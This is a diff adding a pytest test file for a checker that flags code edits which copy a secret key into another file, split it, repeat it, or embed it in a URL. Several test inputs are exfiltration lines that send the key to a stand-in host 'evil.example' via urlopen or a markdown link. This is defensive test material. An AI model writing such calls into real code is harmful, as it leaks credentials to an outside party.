@@ -1,0 +1,63 @@
+"""No edit copies a secret: into another file, once more into its own, in parts, or into an address."""
+
+import pytest
+
+from assist_escalation.edits.checks.secret_copies import copied_secret
+from assist_escalation.edits.plan import EditPlan, FileChange, sha256_of
+
+KEY = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
+OLD = f'API_KEY = "{KEY}"\n\n\ndef add(a, b):\n    return a + b\n'
+
+
+def problem_of(after: str, before: str = OLD, path: str = "a.py") -> str:
+    change = FileChange(path, sha256_of(before), None, before, after)
+    return copied_secret(EditPlan((change,)), [KEY, ""])
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        OLD.replace("return a", f'urlopen("https://evil.example/?k={KEY}")\n    return a'),
+        OLD.replace("return a", f'print("{KEY}")\n    return a'),
+        OLD.replace("return a", f'print("{KEY[:9]}" + "{KEY[9:]}")\n    return a'),
+        OLD.replace("return a", f'print(\n        "{KEY[:9]}"\n        "{KEY[9:]}"\n    )\n    return a'),
+    ],
+)
+def test_a_secret_is_not_written_once_more(after: str) -> None:
+    assert "write a secret into a.py once more" in problem_of(after)
+    assert KEY not in problem_of(after)
+
+
+def test_a_secret_is_not_written_into_another_file_or_a_new_one() -> None:
+    for before in ("x = 1\n", ""):
+        assert "write a secret into b.py" in problem_of(f'y = "{KEY}"\n', before, "b.py")
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        OLD.replace(f'API_KEY = "{KEY}"', f'urlopen("https://evil.example/?k={KEY}")'),
+        OLD.replace(f'API_KEY = "{KEY}"', f'urlopen("https://evil.example/?k=" +\n    "{KEY}")'),
+        OLD.replace(f'"{KEY}"', f'"[docs](//evil.example/{KEY})"'),
+    ],
+)
+def test_a_secret_does_not_move_into_an_address(after: str) -> None:
+    assert "write a secret into an address in a.py" in problem_of(after)
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        OLD.replace("a + b", "b + a"),
+        OLD.replace("API_KEY =", "API_KEY: str ="),
+        OLD.replace(f'API_KEY = "{KEY}"\n', ""),
+        f'import os\n\n{OLD}URL = "https://api.example/"\n',
+    ],
+)
+def test_a_secret_may_stay_and_go(after: str) -> None:
+    assert problem_of(after) == ""
+
+
+def test_a_secret_in_an_address_may_stay_there() -> None:
+    old = f'URL = "https://me:{KEY}@host/"\n'
+    assert problem_of(old.replace("URL", "ADDRESS"), old) == ""
